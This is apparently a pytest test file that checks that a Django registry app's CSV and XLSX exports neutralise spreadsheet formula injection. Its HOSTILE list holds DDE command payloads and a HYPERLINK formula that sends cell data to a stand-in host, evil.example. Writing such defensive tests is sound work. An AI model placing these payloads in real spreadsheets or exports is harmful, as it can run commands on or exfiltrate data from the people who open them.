"""Formula injection: every CSV/XLSX export shows hostile cells as text, never as formulas."""

import csv
import io
from decimal import Decimal
from http import HTTPStatus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core.exports import FORMULA_TRIGGERS, csv_bytes, spreadsheet_cell, xlsx_append
from core.roles import Role
from ip_registry.reports import Table, table_response

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
]


def _is_dangerous(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    cell = spreadsheet_cell(text)
    if _is_dangerous(text) and cell != text:
        assert cell == "'" + text
    if cell == text and _is_dangerous(text):
        float(text.rstrip("%"))  # only plain numbers are left alone


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
@settings(max_examples=50, deadline=None)
def test_numbers_stay_numbers(number):
    assert spreadsheet_cell(number) == number


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=4), max_size=5))
def test_csv_round_trips_every_cell_neutralised(rows):
    data = csv_bytes(["a", "b", "c", "d"], rows)
    assert data.startswith("\ufeff".encode())
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))
    assert parsed[0] == ["a", "b", "c", "d"]
    assert [row for row in parsed[1:]] == [[spreadsheet_cell(c) for c in row] for row in rows]


def _xlsx_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_append_keeps_hostile_text_as_quoted_text():
    workbook = Workbook()
    xlsx_append(workbook.active, [*HOSTILE, -5, "-12.50", Decimal("3.5")])
    out = io.BytesIO()
    workbook.save(out)
    cells = _xlsx_cells(out.getvalue())
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert cell.quotePrefix
    assert cells[len(HOSTILE)].value == -5


def test_registry_dashboard_exports_neutralise_enterprise_supplied_cells():
    table = Table("缺口名单", ["企业名称", "说明"], [[text, "正常"] for text in HOSTILE])
    rows = list(
        csv.reader(
            io.StringIO(
                table_response(table, fmt="csv", filename="t").content.decode("utf-8")[1:],
                newline="",
            )
        )
    )
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    cells = _xlsx_cells(table_response(table, fmt="xlsx", filename="t").content)
    formulas = [c for c in cells if c.data_type == "f"]
    assert formulas == []
    assert all(c.quotePrefix for c in cells[2::2])


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contract_statistics_exports_neutralise_labels(client, make_user, monkeypatch, fmt):
    rows = [
        {"label": text, "count": 1, "total": Decimal("10"), "technical": Decimal("5")}
        for text in HOSTILE
    ]
    monkeypatch.setattr("contracts.views.contract_stats", lambda **kwargs: rows)
    client.force_login(make_user(Role.REGISTRY_OFFICER))
    response = client.get(f"/contracts/stats/export.{fmt}", {"group_by": "district"})
    assert response.status_code == HTTPStatus.OK, response.status_code
    if fmt == "csv":
        parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:], newline="")))
        assert [r[0] for r in parsed[1:]] == ["'" + t for t in HOSTILE]
    else:
        cells = _xlsx_cells(response.content)
        assert [c for c in cells if c.data_type == "f"] == []
        assert all(c.quotePrefix for c in cells[4::4])


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_xlsx_export_of_any_text_saves_and_holds_no_formula(row):
    workbook = Workbook()
    xlsx_append(workbook.active, row)
    out = io.BytesIO()
    workbook.save(out)
    assert [c for c in _xlsx_cells(out.getvalue()) if c.data_type == "f"] == []
